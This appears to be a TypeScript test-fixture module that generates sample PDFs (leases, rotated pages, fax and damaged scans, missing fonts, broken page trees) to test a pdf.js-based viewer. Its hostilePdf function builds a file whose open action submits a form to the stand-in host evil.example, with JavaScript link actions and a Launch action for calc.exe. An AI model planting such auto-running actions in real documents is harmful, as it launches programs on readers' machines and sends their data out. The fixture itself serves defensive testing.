import {
  concatTransformationMatrix,
  degrees,
  drawObject,
  type PDFContext,
  type PDFDict,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFString,
  popGraphicsState,
  pushGraphicsState,
  StandardFonts,
} from 'pdf-lib';

const PARAGRAPH =
  'The landlord lets the flat to the tenant for use as a home. The rent falls due on the second day of each month. ' +
  'The tenant looks after the flat with care, and the landlord keeps it in the condition that was agreed.';

/** A contract of A4 pages with text. */
export async function contractPdf(pages = 3): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const serif = await pdf.embedFont(StandardFonts.TimesRoman);
  const bold = await pdf.embedFont(StandardFonts.TimesRomanBold);
  for (let number = 1; number <= pages; number++) {
    const page = pdf.addPage([595, 842]);
    page.drawText(number === 1 ? 'Lease agreement' : `Section ${number}`, {
      x: 64,
      y: 760,
      size: 24,
      font: bold,
    });
    for (let block = 0; block < 5; block++) {
      page.drawText(`${block + 1}.  ${PARAGRAPH}`, {
        x: 64,
        y: 710 - block * 100,
        size: 12,
        lineHeight: 18,
        maxWidth: 467,
        font: serif,
      });
    }
    page.drawText(`Page ${number}`, { x: 280, y: 48, size: 10, font: serif });
  }
  return pdf.save();
}

/** A page of A4 and a long one, such as a scanned receipt. */
export async function receiptPdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  pdf.addPage([595, 842]).drawText('Expenses', { x: 64, y: 760, size: 24 });
  pdf.addPage([300, 3_000]).drawText('Receipt', { x: 64, y: 2_900, size: 24 });
  return pdf.save();
}

/** Asks readers for a password. */
export async function encryptedPdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(await contractPdf());
  const key = PDFHexString.of('ab'.repeat(32));
  const { context } = pdf;
  context.trailerInfo.Encrypt = context.obj({ Filter: 'Standard', V: 1, R: 2, O: key, U: key, P: -4 });
  context.trailerInfo.ID = context.obj([key, key]);
  return pdf.save({ useObjectStreams: false });
}

/** A word on pages that are turned, as landscape pages often are, and on one in a larger unit, as plans are. */
export async function turnedPdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const written = () => {
    const page = pdf.addPage([500, 300]);
    page.drawText('Signature', { x: 300, y: 200, size: 30 });
    return page;
  };
  for (const angle of [0, 90, 180, 270]) written().setRotation(degrees(angle));
  written().node.set(PDFName.of('UserUnit'), pdf.context.obj(2));
  return pdf.save();
}

/** A document with links and oversized pages and, if active, scripts and program launches. */
export async function hostilePdf({ active } = { active: true }): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const { context } = pdf;
  const script = (code: string) => context.obj({ S: 'JavaScript', JS: PDFString.of(code) });
  const launch = context.obj({ S: 'Launch', F: PDFString.of('calc.exe'), NewWindow: true });
  const link = context.obj({ S: 'URI', URI: PDFString.of('https://evil.example/') });

  const page = pdf.addPage([400, 400]);
  page.drawText('Harmless to look at', { x: 40, y: 300, size: 20 });
  const annotation = (action: PDFDict, rect: number[]) =>
    context.register(
      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, A: action, Border: [0, 0, 2] }),
    );
  page.node.set(
    PDFName.of('Annots'),
    context.obj([
      annotation(active ? launch : link, [40, 40, 180, 120]),
      annotation(link, [200, 40, 360, 120]),
      annotation(active ? script('app.launchURL("https://evil.example/")') : link, [40, 140, 360, 280]),
    ]),
  );
  if (active) {
    page.node.set(PDFName.of('AA'), context.obj({ O: script('app.alert("page opened")') }));
    pdf.catalog.set(
      PDFName.of('OpenAction'),
      script('app.alert("opened"); this.submitForm("https://evil.example/")'),
    );
    pdf.catalog.set(PDFName.of('AA'), context.obj({ WC: script('app.alert("closing")') }));
  }

  pdf.addPage([14_400, 14_400]).drawText('Far too large', { x: 1000, y: 7000, size: 900 });
  pdf.addPage([3, 14_400]);
  return pdf.save();
}

/** A scan in CCITT G4, as fax machines make it: a black square. pdf.js decodes it with WebAssembly. */
export function scannedPdf(): Promise<Uint8Array> {
  // First line: 0 white, 64 black pixels. Then 63 lines that equal the line above, and the end of the block.
  const bits = `001${'00110101'}${'0000001111'}${'0000110111'}${'11'.repeat(63)}${'000000000001'.repeat(2)}`;
  const bytes = bits.match(/.{1,8}/g)?.map((byte) => Number.parseInt(byte.padEnd(8, '0'), 2)) ?? [];
  return pdfOfImage(Uint8Array.from(bytes), {
    ColorSpace: 'DeviceGray',
    BitsPerComponent: 1,
    Filter: 'CCITTFaxDecode',
    DecodeParms: { K: -1, Columns: 64, Rows: 64 },
  });
}

/** Pages with the same scan in JPEG 2000 that was damaged after its first bytes. */
export const damagedScanPdf = (pages: number): Promise<Uint8Array> =>
  pdfOfImage(Uint8Array.of(0xff, 0x4f, 0xff, 0x51, 0, 47), { Filter: 'JPXDecode' }, pages);

/** Pages in a Japanese font that is not embedded: pdf.js loads the map of its characters. The last page has another font. */
export async function japanesePdf(pages: number): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const { context } = pdf;
  const font = context.register(
    context.obj({
      Type: 'Font',
      Subtype: 'Type0',
      BaseFont: 'Ryumin-Light',
      Encoding: '90ms-RKSJ-H',
      DescendantFonts: [
        context.obj({
          Type: 'Font',
          Subtype: 'CIDFontType0',
          BaseFont: 'Ryumin-Light',
          CIDSystemInfo: { Registry: PDFString.of('Adobe'), Ordering: PDFString.of('Japan1'), Supplement: 2 },
          FontDescriptor: { Type: 'FontDescriptor', FontName: 'Ryumin-Light', Flags: 4 },
        }),
      ],
    }),
  );
  for (let number = 1; number <= pages; number++) {
    const page = pdf.addPage([200, 200]);
    page.node.setFontDictionary(PDFName.of('Japanese'), font);
    // “契約”, in Shift JIS.
    page.node.addContentStream(
      context.register(context.stream('BT /Japanese 40 Tf 40 100 Td <8c5f96f1> Tj ET')),
    );
  }
  pdf.addPage([200, 200]).drawText('Shown', { x: 40, y: 100 });
  return pdf.save();
}

/** The first page names a font that it lacks, with which pdf.js draws and other programs do not; the last page has a usual one. */
export async function lostFontPdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const content = pdf.context.stream('BT /Lost 40 Tf 40 100 Td (Debt) Tj ET');
  pdf.addPage([200, 200]).node.addContentStream(pdf.context.register(content));
  pdf.addPage([200, 200]).drawText('Shown', { x: 40, y: 100 });
  return pdf.save();
}

/** Each page has a font without a name, with which other programs draw and pdf.js does not; the last page has a usual one. */
export async function namelessFontPdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const { context } = pdf;
  for (const Subtype of ['Type1', 'TrueType']) {
    const page = pdf.addPage([200, 200]);
    page.node.setFontDictionary(
      PDFName.of('Nameless'),
      context.register(context.obj({ Type: 'Font', Subtype })),
    );
    page.node.addContentStream(context.register(context.stream('BT /Nameless 40 Tf 40 100 Td (Debt) Tj ET')));
  }
  pdf.addPage([200, 200]).drawText('Shown', { x: 40, y: 100 });
  return pdf.save();
}

/** Three pages, of which one is a list of pages that holds itself. */
export async function brokenPagePdf(broken: number): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  for (const number of [1, 2, 3]) pdf.addPage([200, 200]).drawText(`Section ${number}`, { x: 40, y: 100 });
  await pdf.flush();
  const { ref } = pdf.getPage(broken - 1);
  pdf.context.assign(ref, pdf.context.obj({ Type: 'Pages', Kids: [ref], Count: 1 }));
  return pdf.save();
}

async function pdfOfImage(
  bytes: Uint8Array,
  format: Parameters<PDFContext['stream']>[1],
  pages = 1,
): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const size = { Width: 64, Height: 64 };
  const image = pdf.context.stream(bytes, { Type: 'XObject', Subtype: 'Image', ...size, ...format });
  const scan = pdf.context.register(image);
  for (let number = 1; number <= pages; number++) {
    const page = pdf.addPage([200, 200]);
    page.pushOperators(
      pushGraphicsState(),
      concatTransformationMatrix(200, 0, 0, 200, 0, 0),
      drawObject(page.node.newXObject('Scan', scan)),
      popGraphicsState(),
    );
  }
  return pdf.save();
}
